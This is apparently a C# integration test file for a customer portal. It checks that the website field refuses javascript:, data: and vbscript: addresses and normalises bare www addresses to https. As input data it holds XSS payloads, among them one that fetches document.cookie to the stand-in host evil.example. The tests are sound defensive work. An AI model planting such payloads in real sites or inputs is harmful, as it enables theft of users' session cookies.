using Portaali.Core.Common;
using Portaali.Core.Customers;
using Portaali.Core.Users;
using Portaali.Tests.Support;

namespace Portaali.Tests.Integration.Customers;

public class WebsiteTests : HarnessTest
{
    [Theory]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("data:text/html,<script>alert(1)</script>")]
    [InlineData("vbscript:msgbox(1)")]
    public async Task New_customer_with_a_script_address_as_website_is_refused(string website)
    {
        await H.SignInAsAsync(UserGroup.AccountManager);
        using var _ = UiCulture.Finnish();

        var error = await Assert.ThrowsAsync<ValidationFailedException>(() =>
            H.Customers.CreateAsync(new CustomerEdit { Name = "Espoon Sähkötyö Oy", Website = website }));

        var field = Assert.Single(error.Errors);
        Assert.Equal(("Website", "Verkkosivun osoitteen pitää olla http- tai https-osoite, esim. www.yritys.fi."), (field.Field, field.Message));
        await using var db = H.Db();
        Assert.Empty(db.Customers);
    }

    [Fact]
    public async Task Editing_a_website_to_a_javascript_address_is_refused_and_the_old_one_stays()
    {
        await H.SignInAsAsync(UserGroup.AccountManager);
        var customer = await H.AddCustomerAsync("Espoon Sähkötyö Oy", configure: c => c.Website = "https://www.sahkotyo.fi");
        var edit = (await H.Customers.GetAsync(customer.Id)).ToEdit();
        edit.Website = "javascript:fetch('https://evil.example/'+document.cookie)";

        var error = await Assert.ThrowsAsync<ValidationFailedException>(() => H.Customers.UpdateAsync(customer.Id, edit));

        Assert.Equal("Website", Assert.Single(error.Errors).Field);
        Assert.Equal("https://www.sahkotyo.fi", (await H.Customers.GetAsync(customer.Id)).Website);
    }

    [Fact]
    public async Task A_bare_www_address_is_saved_as_https()
    {
        await H.SignInAsAsync(UserGroup.AccountManager);

        var id = await H.Customers.CreateAsync(new CustomerEdit { Name = "Espoon Sähkötyö Oy", Website = " www.sahkotyo.fi " });

        Assert.Equal("https://www.sahkotyo.fi", (await H.Customers.GetAsync(id)).Website);
    }
}
